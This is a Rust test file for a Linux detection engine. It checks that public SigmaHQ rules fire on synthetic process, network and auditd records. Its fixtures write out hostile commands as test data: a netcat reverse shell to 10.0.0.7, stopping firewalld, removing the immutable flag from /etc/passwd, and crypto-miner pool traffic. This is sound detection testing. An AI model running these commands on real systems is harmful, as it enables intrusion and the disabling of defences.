//! SigmaHQ's rules on Linux processes and connections, unchanged, on what system and network witnesses say: they load, and they fire.

use engine::{Engine, Out, Rules, drive};
use event::{Gravity, Prepared, Span};
use finding::{Change, RuleCard};
use inventory::{Context, Inventory};
use source::read::{ReadOptions, Reader};
use std::collections::BTreeSet;
use std::io::Read;
use std::path::PathBuf;
use std::sync::Arc;

const DOCKER: &str = "/docker/50042e85f10d3efb43888b85eddf68b7550e45f6a2b3aa6dc30a10bdba6f3e4a";

/// Names of the rules that found something.
#[derive(Default)]
struct Found(BTreeSet<String>);

impl Out for Found {
    fn finding(&mut self, change: Change) {
        self.0.insert(change.finding().strategy.to_string());
    }
}

fn exec(pid: u32, exe: &str, args: &[&str], more: &str) -> String {
    let args = serde_json::to_string(args).unwrap();
    let time = 1_795_527_678_000_000_000u64 + u64::from(pid) * 1_000_000;
    format!(
        r#"{{"landwaiter_process":"exec","time":{time},"pid":{pid},"ppid":1,"exe":"{exe}","args":{args},"uid":0,"cgroup":"{DOCKER}"{more}}}"#
    )
}

fn found(rules: Vec<sigma::Rule>, lines: &[String]) -> BTreeSet<String> {
    found_in_one(rules, &lines.join("\n"))
}

fn found_in_one(rules: Vec<sigma::Rule>, text: &str) -> BTreeSet<String> {
    let (set, problems) = sigma::RuleSet::compile(rules);
    assert!(problems.iter().all(|problem| problem.gravity < Gravity::Error), "{problems:#?}");
    let cards: Vec<RuleCard> = set.rules().iter().map(card).collect();
    let mut engine = Engine::new(Rules { set: Arc::new(set), cards: Arc::new(cards) }, Inventory::new(Context::default()));
    let bytes: Arc<[u8]> = Arc::from(text.as_bytes());
    let records: Vec<Prepared> = Reader::over([(PathBuf::from("records"), bytes)], &ReadOptions::default()).collect();
    let mut out = Found::default();
    drive(records, &mut engine, &mut out);
    out.0
}

fn card(rule: &sigma::Rule) -> RuleCard {
    // The title is what people know a public rule by.
    RuleCard {
        strategy: rule.title.as_str().into(),
        strategy_title: rule.title.as_str().into(),
        rule: rule.name.as_str().into(),
        title: rule.title.as_str().into(),
        level: rule.level,
        entity: rule.entity.clone(),
        message: rule.message.as_str().into(),
        behaviour: rule.title.as_str().into(),
        explainable: rule.explainable,
        attack: vec![],
        window: Span::ZERO,
    }
}

#[test]
fn public_rules_on_processes_fire_on_what_the_kernel_says() {
    let Some(rules) = public_rules("rules/linux/process_creation/") else { return };
    assert!(rules.len() >= 100, "only {} rules on Linux processes load", rules.len());
    let lines = [
        exec(1, "/usr/bin/base64", &["base64", "-d", "x"], ""),
        exec(2, "/tmp/x", &["x", "-o", "stratum+tcp://pool:1"], ""),
        exec(3, "/bin/cat", &["cat", "/proc/1/cgroup"], ""),
        exec(4, "/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.7", "80"], ""),
        exec(5, "/usr/bin/systemctl", &["systemctl", "stop", "firewalld"], ""),
        exec(6, "/bin/sh", &["sh", "-c", "id"], r#","parent_exe":"/tmp/dropper""#),
        exec(7, "/bin/true", &["true"], ""),
        // Another witness, the same words.
        r#"{"output":"x","priority":"Notice","rule":"R","source":"syscall","time":"2026-11-24T13:41:19Z","output_fields":{"evt.type":"execve","proc.pid":90,"proc.exepath":"/usr/bin/chattr","proc.cmdline":"chattr -i /etc/passwd","container.id":"50042e85f10d"}}"#.to_owned(),
    ];
    let found = found(rules, &lines);
    for title in [
        "Decode Base64 Encoded Text",
        "Linux Crypto Mining Indicators",
        "Container Residence Discovery Via Proc Virtual FS",
        "Potential Netcat Reverse Shell Execution",
        "Disabling Security Tools",
        "Shell Execution Of Process Located In Tmp Directory",
        "Remove Immutable File Attribute",
    ] {
        assert!(found.contains(title), "{title} is not among {found:#?}");
    }
    assert!(found.len() < 16, "nine programs are not {} findings: {found:#?}", found.len());
}

#[test]
fn public_rules_on_connections_fire_on_what_the_network_says() {
    let Some(rules) = public_rules("rules/linux/network_connection/") else { return };
    let line = |second: u8, kind: &str, to: &str, port: u16, more: &str| {
        format!(
            r#"{{"timestamp":"2026-11-24T13:41:{second:02}.072015+0000","flow_id":{second},"event_type":"{kind}","src_ip":"172.17.0.2","src_port":45712,"dest_ip":"{to}","dest_port":{port},"proto":"TCP"{more}}}"#
        )
    };
    // Whose address it is, the engine says: a connection went out from here only when it was a container's.
    let web = format!(
        r#"{{"Id":"{0}","Created":"2026-11-24T13:40:00Z","Path":"web","Args":[],"Name":"/web","State":{{"Status":"running","Running":true,"Pid":33,"StartedAt":"2026-11-24T13:40:01Z"}},"Image":"sha256:{0}","HostConfig":{{"NetworkMode":"default"}},"Config":{{"Image":"web:1"}},"NetworkSettings":{{"Networks":{{"bridge":{{"NetworkID":"{0}","IPAddress":"172.17.0.2"}}}}}}}}"#,
        &DOCKER[8..]
    );
    let lines = [
        web,
        line(18, "tls", "198.51.100.7", 443, r#","tls":{"sni":"xmrpool.eu"}"#),
        line(
            19,
            "flow",
            "198.51.100.8",
            4444,
            r#","flow":{"pkts_toserver":9,"pkts_toclient":7,"bytes_toserver":900,"bytes_toclient":700,"state":"closed"}"#,
        ),
        line(
            20,
            "flow",
            "198.51.100.9",
            443,
            r#","flow":{"pkts_toserver":9,"pkts_toclient":7,"bytes_toserver":900,"bytes_toclient":700,"state":"closed"}"#,
        ),
    ];
    let found = found(rules, &lines);
    let titles: Vec<&str> = found.iter().map(String::as_str).collect();
    assert_eq!(titles, ["Linux Crypto Mining Pool Connections", "Potentially Suspicious Malware Callback Communication - Linux"]);
}

#[test]
fn public_rules_on_audit_records_fire_on_what_auditd_writes() {
    let Some(rules) = public_rules("rules/linux/auditd/") else { return };
    assert!(rules.len() >= 40, "only {} rules on audit records load", rules.len());
    let lines = [
        "type=SYSCALL msg=audit(1795527678.072:1): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid=9 auid=4294967295 uid=0 gid=0 euid=0 tty=pts0 ses=1 comm=\"chattr\" exe=\"/usr/bin/chattr\" key=\"x\"",
        "type=EXECVE msg=audit(1795527678.072:1): argc=3 a0=\"chattr\" a1=\"-i\" a2=\"/etc/passwd\"",
    ];
    let found = found_in_one(rules, &lines.join("\n"));
    assert!(found.contains("Remove Immutable File Attribute - Auditd"), "{found:#?}");
}

/// The rules of a folder of the archive; `None`, said aloud, where it is not there. A field that a rule names and nobody has is told, and refuses nothing.
fn public_rules(folder: &str) -> Option<Vec<sigma::Rule>> {
    let Some(data) = std::env::var_os("LANDWAITER_TEST_DATA") else {
        eprintln!("skipped: LANDWAITER_TEST_DATA names no folder with sigmahq.tar.gz");
        return None;
    };
    let path = std::path::Path::new(&data).join("sigmahq.tar.gz");
    let Ok(file) = std::fs::File::open(&path) else {
        eprintln!("skipped: there is no {}", path.display());
        return None;
    };
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(file));
    let mut rules = Vec::new();
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let path = entry.path().unwrap().display().to_string();
        if path.contains(folder) && path.ends_with(".yml") {
            let mut text = String::new();
            entry.read_to_string(&mut text).unwrap();
            let (parsed, problems) = sigma::parse(&text, &path, 1);
            assert!(problems.iter().all(|problem| problem.gravity < Gravity::Error), "{problems:#?}");
            rules.extend(parsed);
        }
    }
    Some(rules)
}
